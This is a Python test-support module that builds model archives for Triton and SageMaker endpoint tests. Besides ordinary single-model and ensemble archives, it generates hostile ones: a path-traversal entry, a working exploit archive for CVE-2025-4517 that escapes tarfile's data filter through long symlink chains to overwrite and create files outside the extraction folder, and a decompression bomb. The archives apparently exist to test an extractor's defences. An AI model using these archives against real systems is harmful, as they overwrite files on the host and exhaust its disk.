"""Model archives (``.tar.gz``) built at test time: one model, or a Triton repository with an
ensemble, as SageMaker multi-model endpoints take them; and hostile ones."""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import textwrap
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

from support.models import add_constant_onnx, make_model

ADD = """
name: "{name}"
backend: "onnxruntime"
max_batch_size: 8
input [ {{ name: "INPUT0" data_type: TYPE_FP32 dims: [ 4 ] }} ]
output [ {{ name: "OUTPUT0" data_type: TYPE_FP32 dims: [ 4 ] }} ]
"""

#: IN -> preprocess -> post -> OUT, the steps named as the archive's folders name them.
PIPE = """
name: "pipe"
platform: "ensemble"
max_batch_size: 8
input [ { name: "IN" data_type: TYPE_FP32 dims: [ 4 ] } ]
output [ { name: "OUT" data_type: TYPE_FP32 dims: [ 4 ] } ]
ensemble_scheduling { step [
  { model_name: "preprocess" model_version: -1 input_map { key: "INPUT0" value: "IN" } output_map { key: "OUTPUT0" value: "mid" } },
  { model_name: "post" model_version: -1 input_map { key: "INPUT0" value: "mid" } output_map { key: "OUTPUT0" value: "OUT" } }
] }
"""


def tar_gz(files: dict[str, bytes], *, dirs: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name in dirs:
            info = tarfile.TarInfo(name)
            info.type = tarfile.DIRTYPE
            info.mode = 0o755
            tar.addfile(info)
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def onnx_bytes(model: onnx.ModelProto) -> bytes:
    return bytes(model.SerializeToString())


def weighted_add(value: float, weight_mb: int) -> onnx.ModelProto:
    """OUTPUT0 = INPUT0 + value, carrying ``weight_mb`` of weights read at run time (so the
    model's memory footprint is real)."""
    rows = weight_mb * (1 << 20) // 16
    graph = helper.make_graph(
        [
            helper.make_node("Slice", ["INPUT0", "starts", "ends", "axes"], ["first"]),
            helper.make_node("Mul", ["first", "zero"], ["nothing"]),
            helper.make_node("Cast", ["nothing"], ["index"], to=TensorProto.INT64),
            helper.make_node("Gather", ["W", "index"], ["rows"], axis=0),
            helper.make_node("ReduceSum", ["rows", "axes"], ["picked"], keepdims=0),
            helper.make_node("Add", ["INPUT0", "picked"], ["shifted"]),
            helper.make_node("Add", ["shifted", "C"], ["OUTPUT0"]),
        ],
        "weighted",
        [helper.make_tensor_value_info("INPUT0", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("OUTPUT0", TensorProto.FLOAT, ["batch", 4])],
        initializer=[
            numpy_helper.from_array(np.zeros((rows, 4), np.float32), "W"),
            numpy_helper.from_array(np.array([0], np.int64), "starts"),
            numpy_helper.from_array(np.array([1], np.int64), "ends"),
            numpy_helper.from_array(np.array([1], np.int64), "axes"),
            numpy_helper.from_array(np.array(0, np.float32), "zero"),
            helper.make_tensor("C", TensorProto.FLOAT, [1], [value]),
        ],
    )
    return make_model(graph)


def single_archive(value: float, *, folder: str = "", name: str = "model", weight_mb: int = 0) -> bytes:
    """One model adding ``value``: at the archive's top (``folder`` empty) or in ``folder/``."""
    model = weighted_add(value, weight_mb) if weight_mb else add_constant_onnx(value)
    prefix = f"{folder}/" if folder else ""
    return tar_gz(
        {
            f"{prefix}config.pbtxt": textwrap.dedent(ADD.format(name=name)).encode(),
            f"{prefix}1/model.onnx": onnx_bytes(model),
        }
    )


def pipeline_archive(pre: float, post: float = 100.0) -> bytes:
    """A Triton repository: ensemble ``pipe`` = ``preprocess`` (adds ``pre``) then ``post``
    (adds ``post``): OUT = IN + pre + post."""
    return tar_gz(
        {
            "pipe/config.pbtxt": textwrap.dedent(PIPE).encode(),
            "preprocess/config.pbtxt": textwrap.dedent(ADD.format(name="preprocess")).encode(),
            "preprocess/1/model.onnx": onnx_bytes(add_constant_onnx(pre)),
            "post/config.pbtxt": textwrap.dedent(ADD.format(name="post")).encode(),
            "post/1/model.onnx": onnx_bytes(add_constant_onnx(post)),
        },
        dirs=("pipe", "pipe/1"),
    )


def traversal_archive() -> bytes:
    return tar_gz({"model/config.pbtxt": b"", "../escape.txt": b"gotcha"})


def configless_archive() -> bytes:
    return tar_gz({"1/model.onnx": onnx_bytes(add_constant_onnx(1.0))})


# -- hostile archives ------------------------------------------------------------------------


def _symlink(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    info.mode = 0o777
    return info


def _dir(name: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o777
    return info


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    return info, io.BytesIO(data)


def cve_2025_4517_archive(dest_len: int, *, levels_up: int = 3, prefix: str = "") -> bytes:
    """The public proof of concept of CVE-2025-4517 (CPython's ``test_realpath_limit_attack``),
    for an extraction folder whose absolute path is ``dest_len`` characters long.

    Sixteen nested folders whose names are as long as PATH_MAX allows, each reachable through
    a one-letter symlink (``a`` -> ``ddd…``, ``ddd…/b`` -> ``ddd…``, ...); then a link
    ``a/b/…/p/lll…`` -> sixteen ``..``: ``os.path.realpath`` cannot expand it (the expanded path
    is longer than PATH_MAX), so ``tarfile.data_filter`` judges it lexically and lets it pass,
    while the kernel follows it back to the top. ``escape`` -> that link's ``..`` ``levels_up``
    times then leaves the folder; ``flaglink`` is a hard link to ``escape/flag`` (a file that
    exists outside) and is then overwritten with ``b"overwritten"``, and ``escape/pwned`` is
    created with ``b"pwned"``: on an affected Python both land ``levels_up`` folders above
    the extraction folder. ``prefix`` puts every member under a folder (``model/``; the
    levels still count from the extraction folder).
    """
    steps = "abcdefghijklmnop"
    component = "d" * ((4096 - dest_len - len(prefix) - 1) // (len(steps) + 1))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        path = prefix.rstrip("/")
        for step in steps:
            tar.addfile(_dir(f"{path}/{component}".lstrip("/")))
            tar.addfile(_symlink(f"{path}/{step}".lstrip("/"), component))
            path = f"{path}/{component}"
        top = "/".join([prefix.rstrip("/"), *steps]).lstrip("/")
        linkpath = f"{top}/{'l' * 254}"
        tar.addfile(_symlink(linkpath, "/".join([".."] * len(steps))))
        escape = f"{prefix}escape"
        up = levels_up + len([p for p in prefix.split("/") if p])
        tar.addfile(_symlink(escape, "/".join([linkpath.removeprefix(prefix), *[".."] * up])))
        tar.addfile(_symlink(f"{prefix}flaglink", f"{escape}/flag", tarfile.LNKTYPE))
        tar.addfile(*_file(f"{prefix}flaglink", b"overwritten"))
        tar.addfile(*_file(f"{escape}/pwned", b"pwned"))
    return buffer.getvalue()


def zeros_bomb_archive(members: int = 100, member_mb: int = 1) -> bytes:
    """``members`` files of ``member_mb`` MiB of zeros: ~1000 times smaller compressed (the
    issue's 2.5 MiB archive expanded to 2.45 GiB)."""
    buffer = io.BytesIO()
    zeros = bytes(member_mb << 20)
    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=9) as tar:
        tar.addfile(*_file("bomb/config.pbtxt", textwrap.dedent(ADD.format(name="bomb")).encode()))
        for i in range(members):
            tar.addfile(*_file(f"bomb/1/weights{i:04d}.bin", zeros))
    return buffer.getvalue()


def cache_extraction_path_len(cache: Path) -> int:
    """Length of the folder the disk cache extracts into: ``<cache>/.tmp-<32 hex>/content``."""
    return len(str(cache)) + len("/.tmp-") + 32 + len("/content")


def listing(root: Path, *, skip: Path) -> dict[str, str]:
    """Every path under ``root`` but under ``skip``: a file's SHA-256, a link's target, 'dir'."""
    seen: dict[str, str] = {}
    for folder, dirs, files in os.walk(root):
        here = Path(folder)
        dirs[:] = [d for d in dirs if here / d != skip]
        for name in dirs + files:
            path = here / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                seen[rel] = "-> " + os.readlink(path)
            elif path.is_file():
                seen[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                seen[rel] = "dir"
    return seen
